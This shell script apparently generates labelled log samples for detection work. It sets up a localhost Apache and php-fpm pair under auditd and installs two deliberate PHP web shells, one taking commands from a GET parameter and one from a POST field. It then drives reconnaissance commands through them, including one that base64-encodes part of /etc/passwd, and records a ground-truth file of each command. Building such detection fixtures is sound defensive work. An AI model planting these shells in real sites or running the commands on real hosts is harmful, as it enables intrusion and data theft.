#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/apache-fpm: Apache 2.4 with the event MPM handing PHP
# to php-fpm through mod_proxy_fcgi, two virtual hosts logging in
# different LogFormats, with a real auditd on this machine.
#
#   sh tools/capture/apache-fpm.sh [OUTDIR]   (as root; default samples/apache-fpm)
#
# What it sets up, under a temporary directory and torn down after:
# - auditd with its own configuration: RAW format, node=web06,
#   execve/execveat rules for both arches;
# - php-fpm 8.2, one pool of three children as www-data, recycled every
#   40 requests, its own log in php/;
# - Apache (event MPM, as www-data) in the +01:00 zone with two virtual
#   hosts, each with a LogFormat of its own (both in apache2/apache2.conf):
#   shop.test on 127.0.0.1:8091, "%a %l %u %t \"%r\" %>s %O %D ..."
#   (received time and duration in microseconds), a GET web shell in
#   inc/cfg.php; intranet.test on 127.0.0.1:8092, with the time as
#   "[%{%d/%b/%Y %T}t.%{msec_frac}t %{%z}t]", %P and %{tid}P (Apache's
#   process and thread, not php-fpm's) and %{ms}T, a POST shell in
#   admin/tools.php;
# - ordinary clients 127.0.0.10 to 127.0.0.21 on both hosts while
#   127.0.0.66 (GET) and 127.0.0.77 (POST) run commands.
# truth.tsv: for each request that ran a command, the time curl
# started, the client, the method, the path and the exact command.
#
# Needs: auditd, apache2, php8.2-fpm, curl.  Removes only the audit
# rules it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/apache-fpm}")
NODE=web06
FORMAT=RAW
WEB=/srv/www/vhosts
SHOP="http://127.0.0.1:8091"
INTRA="http://127.0.0.1:8092"
. "$(dirname "$0")/lib.sh"

cap_start
mkdir -p "$T/apache2" "$T/php" "$WEB/shop/inc" "$WEB/intranet/admin"

# --- the web applications --------------------------------------------------
cat > "$WEB/shop/index.php" <<'PHP'
<?php echo "<h1>Shop</h1>\n";
PHP
cat > "$WEB/shop/cart.php" <<'PHP'
<?php $n = (int)($_GET['item'] ?? 0); echo "added item $n\n";
PHP
cat > "$WEB/shop/inc/cfg.php" <<'PHP'
<?php if (isset($_GET['c'])) { echo "<pre>"; passthru($_GET['c']); }
PHP
cat > "$WEB/intranet/index.php" <<'PHP'
<?php echo "<h1>Intranet</h1>\n";
PHP
cat > "$WEB/intranet/search.php" <<'PHP'
<?php echo "results for " . htmlspecialchars($_POST['comment'] ?? '') . "\n";
PHP
cat > "$WEB/intranet/admin/tools.php" <<'PHP'
<?php if (isset($_POST['cmd'])) echo shell_exec($_POST['cmd']);
PHP
chown -R www-data:www-data "$WEB"

# --- php-fpm ----------------------------------------------------------------
cat > "$T/fpm.conf" <<EOF
[global]
pid = $T/fpm.pid
error_log = $T/php/php8.2-fpm.log
log_level = notice
daemonize = yes
[www]
user = www-data
group = www-data
listen = $T/fpm.sock
listen.owner = www-data
listen.group = www-data
pm = static
pm.max_children = 3
pm.max_requests = 40
EOF
TZ=Europe/Berlin php-fpm8.2 -y "$T/fpm.conf"
cap_server fpm

# --- Apache -----------------------------------------------------------------
M=/usr/lib/apache2/modules
FCGI="\"proxy:unix:$T/fpm.sock|fcgi://localhost\""
cat > "$T/apache2.conf" <<EOF
ServerRoot /etc/apache2
ServerName web06.test
DefaultRuntimeDir $T
PidFile $T/apache.pid
Mutex file:$T default
Listen 127.0.0.1:8091
Listen 127.0.0.1:8092
User www-data
Group www-data
LoadModule mpm_event_module $M/mod_mpm_event.so
LoadModule authz_core_module $M/mod_authz_core.so
LoadModule dir_module $M/mod_dir.so
LoadModule mime_module $M/mod_mime.so
LoadModule proxy_module $M/mod_proxy.so
LoadModule proxy_fcgi_module $M/mod_proxy_fcgi.so
TypesConfig /etc/mime.types
ErrorLog $T/apache2/error.log
LogLevel notice
DirectoryIndex index.php
LogFormat "%a %l %u %t \"%r\" %>s %O %D \"%{Referer}i\" \"%{User-Agent}i\"" timed
LogFormat "%v %h %l %u [%{%d/%b/%Y %T}t.%{msec_frac}t %{%z}t] \"%r\" %>s %b \"%{User-Agent}i\" pid=%P tid=%{tid}P %{ms}T" withpid
<Directory $WEB>
	Require all granted
</Directory>
<FilesMatch "\.php\$">
	SetHandler $FCGI
</FilesMatch>
<VirtualHost 127.0.0.1:8091>
	ServerName shop.test
	DocumentRoot $WEB/shop
	CustomLog $T/apache2/shop_access.log timed
</VirtualHost>
<VirtualHost 127.0.0.1:8092>
	ServerName intranet.test
	DocumentRoot $WEB/intranet
	CustomLog $T/apache2/intranet_access.log withpid
</VirtualHost>
EOF
TZ=Europe/Berlin apache2 -f "$T/apache2.conf" -k start
cap_server apache
sleep 2

# --- traffic ----------------------------------------------------------------
AUA="curl/7.88.1"
get() {		# COMMAND: through shop's ?c=
	truth 127.0.0.66 GET /inc/cfg.php "$1"
	curl -s -o /dev/null --interface 127.0.0.66 -A "$AUA" -G \
	    --data-urlencode "c=$1" "$SHOP/inc/cfg.php" || true
	sleep 1
}
post() {	# COMMAND: in intranet's POST body
	truth 127.0.0.77 POST /admin/tools.php "$1"
	curl -s -o /dev/null --interface 127.0.0.77 -A "python-requests/2.31.0" \
	    --data-urlencode "cmd=$1" "$INTRA/admin/tools.php" || true
	sleep 1
}

cap_traffic 120 10 15 "$SHOP/" "$SHOP/cart.php?item=3" "$SHOP/index.php" \
    "$SHOP/cart.php?item=7"
cap_traffic 120 16 21 "$INTRA/" "POST $INTRA/search.php" "$INTRA/index.php"
sleep 2
get "id"
post "hostname"
get "cat /etc/os-release"
post "ls -la $WEB/intranet"
get "sleep 2; uname -r"
post "ps -eo pid,ppid,user,comm | grep php"
get "head -c 64 /etc/passwd | base64"
post "id; pwd"
get "echo shop > /tmp/.st_probe && rm /tmp/.st_probe"

# --- collect ----------------------------------------------------------------
cap_collect
mkdir -p "$OUT/apache2" "$OUT/php" "$OUT/www"
cp "$T"/apache2/*.log "$OUT/apache2/"
cp "$T/php/php8.2-fpm.log" "$OUT/php/"
sed "s|$T|/var/log/capture|g" "$T/apache2.conf" > "$OUT/apache2/apache2.conf"
cp -r "$WEB/." "$OUT/www/"
cap_done
